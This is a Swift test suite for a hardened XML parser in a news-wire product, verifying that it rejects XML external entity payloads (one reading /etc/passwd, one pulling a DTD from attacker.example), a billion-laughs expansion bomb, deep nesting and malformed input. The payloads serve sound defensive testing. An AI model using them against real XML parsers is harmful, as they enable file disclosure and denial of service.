import Foundation
import Testing

@testable import WiredeskCore

/// Our own XML reader, for agency XML that may be hostile: it loads nothing, expands no declared
/// entity, and refuses every limit by name with a line number.
@Suite struct XMLReaderTests {
    static func parse(_ text: String, limits: XMLReader.Limits = .standard) throws -> XMLReader.Element {
        try XMLReader.parse(Data(text.utf8), limits: limits)
    }

    /// The reader's refusal of `text`, which must be a 422-kind error.
    static func refusal(_ text: String, limits: XMLReader.Limits = .standard) -> WiredeskError? {
        do {
            _ = try XMLReader.parse(Data(text.utf8), limits: limits)
            return nil
        } catch let error as WiredeskError {
            return error
        } catch {
            Issue.record("not our error: \(error)")
            return nil
        }
    }

    @Test func readsNamesNamespacesAttributesTextAndByteRanges() throws {
        let text = """
            <?xml version="1.0" encoding="utf-8"?>
            <!-- a comment -->
            <m:message xmlns:m="urn:m" xmlns="urn:default" xml:lang="en">
              <item id="1" m:kind="a &amp; b">one &lt;two&gt; <![CDATA[<three> & four]]>&#x41;&#66;</item>
              <item id="2"/>
            </m:message>
            """
        let root = try Self.parse(text)
        #expect(root.name == "message")
        #expect(root.prefix == "m")
        #expect(root.namespace == "urn:m")
        #expect(root.language == "en")
        let items = root.all("item")
        #expect(items.count == 2)
        #expect(items[0].namespace == "urn:default")
        #expect(items[0].attribute("id") == "1")
        #expect(items[0].attribute("kind", namespace: "urn:m") == "a & b")
        #expect(items[0].text == "one <two> <three> & fourAB")
        #expect(items[0].attributes.allSatisfy { $0.name != "xmlns" && $0.prefix != "xmlns" })
        // Byte ranges cut each element out exactly as it stands.
        let bytes = Data(text.utf8)
        #expect(String(decoding: bytes[items[1].byteRange], as: UTF8.self) == #"<item id="2"/>"#)
        #expect(String(decoding: bytes[items[0].byteRange], as: UTF8.self).hasPrefix(#"<item id="1""#))
        #expect(String(decoding: bytes[items[0].byteRange], as: UTF8.self).hasSuffix("&#66;</item>"))
        #expect(String(decoding: bytes[root.byteRange], as: UTF8.self).hasSuffix("</m:message>"))
    }

    @Test func aByteOrderMarkAndADoctypeWithoutSubsetAreSkippedAndNothingIsLoaded() throws {
        let bom = Data([0xEF, 0xBB, 0xBF]) + Data(#"<!DOCTYPE nitf SYSTEM "file:///etc/passwd"><nitf a="1"/>"#.utf8)
        let root = try XMLReader.parse(bom)
        #expect(root.name == "nitf")
        #expect(root.children.isEmpty)
        #expect(root.byteRange == (bom.count - #"<nitf a="1"/>"#.utf8.count)..<bom.count)
    }

    @Test func externalEntitiesAreRefusedByNameAndTheFileIsNeverRead() throws {
        let xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
            <x>&e;</x>
            """
        let error = try #require(Self.refusal(xxe))
        #expect(error.kind == .validation)
        #expect(error.message.contains("entity declarations are refused (XML external entities / entity expansion)"))
        #expect(error.message.contains("line 2"), "\(error.message)")
        #expect(!error.message.contains("root:"), "the file's content leaked: \(error.message)")
        // A parameter entity, the other way external DTDs are pulled in.
        let parameter = #"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><x/>"#
        #expect(Self.refusal(parameter)?.message.contains("entity declarations are refused") == true)
    }

    @Test func billionLaughsIsRefusedBeforeAnythingIsExpanded() throws {
        var laughs = #"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">"#
        for level in 1...9 {
            laughs +=
                "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level == 1 ? "" : String(level - 1));", count: 10) + "\">"
        }
        laughs += "]><lolz>&lol9;</lolz>"
        let error = try #require(Self.refusal(laughs))
        #expect(error.message.contains("entity declarations are refused (XML external entities / entity expansion)"))
        #expect(!error.message.contains("lollol"))
    }

    @Test func anUndefinedEntityIsRefusedByName() throws {
        let error = try #require(Self.refusal("<p>caf&eacute;</p>"))
        #expect(error.message.contains("undefined entity &eacute;"), "\(error.message)")
        #expect(Self.refusal("<p a='&nbsp;'/>")?.message.contains("undefined entity &nbsp;") == true)
        #expect(Self.refusal("<p>AT&T</p>")?.message.contains("\"&\"") == true)
        #expect(Self.refusal("<p>&#0;</p>")?.message.contains("not a character XML allows") == true)
    }

    @Test func malformedXMLIsRefusedWithItsLine() throws {
        let cases: [(String, String)] = [
            ("<a>\n<b>\n</a>", "line 3: end tag </a> does not match <b> (opened on line 2)"),
            ("<a>\n<b>text</b>\n", "line 3: the document ends inside <a> (opened on line 1)"),
            ("<a x='1' x='2'/>", "line 1: attribute x given twice"),
            ("<a>\n\n<b c=d/></a>", "line 3: an attribute value must be quoted"),
            ("<a/><b/>", "a second root element"),
            ("text", "text before the root element"),
            ("<a/>trailing", "content after the root element"),
            ("<p:a/>", "namespace prefix p is not declared"),
            ("<a><!-- open</a>", "a comment is not closed"),
            ("", "no root element"),
        ]
        for (text, expected) in cases {
            let error = try #require(Self.refusal(text), "\(text) was accepted")
            #expect(error.message.contains(expected), "\(text): \(error.message)")
            #expect(error.message.hasPrefix("XML"), "\(error.message)")
        }
    }

    @Test func onlyUTF8IsRead() throws {
        let latin1 = #"<?xml version="1.0" encoding="ISO-8859-1"?><a/>"#
        #expect(Self.refusal(latin1)?.message.contains("encoding \"ISO-8859-1\"; only UTF-8 is accepted") == true)
        let utf16 = Data([0xFF, 0xFE]) + "<a/>".data(using: .utf16LittleEndian)!
        #expect(throws: WiredeskError.self) { try XMLReader.parse(utf16) }
        let invalid = Data("<a>\n".utf8) + Data([0xC3, 0x28]) + Data("</a>".utf8)
        let error = try #require(throws: WiredeskError.self) { try XMLReader.parse(invalid) }
        #expect(error.message.contains("line 2: not UTF-8"), "\(error.message)")
    }

    /// Two hundred thousand levels: refused by depth at level 257, with no recursion to overflow.
    @Test func deepNestingIsRefusedByDepth() throws {
        let deep = String(repeating: "<a>", count: 200_000) + String(repeating: "</a>", count: 200_000)
        let error = try #require(Self.refusal(deep))
        #expect(error.message.contains("nested deeper than 256 levels"), "\(error.message)")
        // 256 levels are read.
        let fine = String(repeating: "<a>", count: 256) + "x" + String(repeating: "</a>", count: 256)
        #expect(try Self.parse(fine).text == "x")
    }

    @Test func eachLimitIsRefusedByName() throws {
        var limits = XMLReader.Limits()
        limits.bytes = 100
        #expect(
            Self.refusal("<a>" + String(repeating: "x", count: 200) + "</a>", limits: limits)?.message.contains(
                "over the limit of 100") == true)
        let attributes = "<a " + (0..<300).map { "a\($0)='1'" }.joined(separator: " ") + "/>"
        #expect(Self.refusal(attributes)?.message.contains("more than 256 attributes") == true)
        let longName = "<" + String(repeating: "n", count: 300) + "/>"
        #expect(Self.refusal(longName)?.message.contains("a name longer than 256 bytes") == true)
        limits = XMLReader.Limits()
        limits.nodes = 1_000
        let many = "<a>" + String(repeating: "<b/>", count: 1_000) + "</a>"
        #expect(Self.refusal(many, limits: limits)?.message.contains("more than 1000 elements") == true)
    }

    /// A 4 MB document of many elements and attributes is read whole.
    @Test func aLargeWellFormedDocumentParses() throws {
        let sentence = "Paragraph &amp; more text, as long as an agency's paragraphs run, with "
        let item = #"<p id="x" class="body" data-n="1">"# + String(repeating: sentence, count: 5) + "<em>emphasis</em>.</p>"
        let count = (4 << 20) / item.utf8.count + 1
        var text = "<body>"
        text.reserveCapacity(4 << 20 + 100)
        for _ in 0..<count { text += item }
        text += "</body>"
        #expect(text.utf8.count > 4 << 20)
        let root = try Self.parse(text)
        #expect(root.elements.count == count)
        #expect(root.elements.last?.attribute("data-n") == "1")
        #expect(
            root.elements.last?.text
                == String(repeating: "Paragraph & more text, as long as an agency's paragraphs run, with ", count: 5) + "emphasis.")
    }

    @Test func theRootNameIsReadFromTheProlog() throws {
        #expect(
            try XMLReader.rootName(of: Data("<?xml version='1.0'?>\n<!-- x --><g2:newsMessage xmlns:g2='u'>".utf8))
                == "newsMessage")
        #expect(try XMLReader.rootName(of: Data("MOSCOW, Jan 6 (Reuters)".utf8)) == nil)
        #expect(throws: WiredeskError.self) {
            try XMLReader.rootName(of: Data(#"<!DOCTYPE x [<!ENTITY e "e">]><x/>"#.utf8))
        }
    }
}
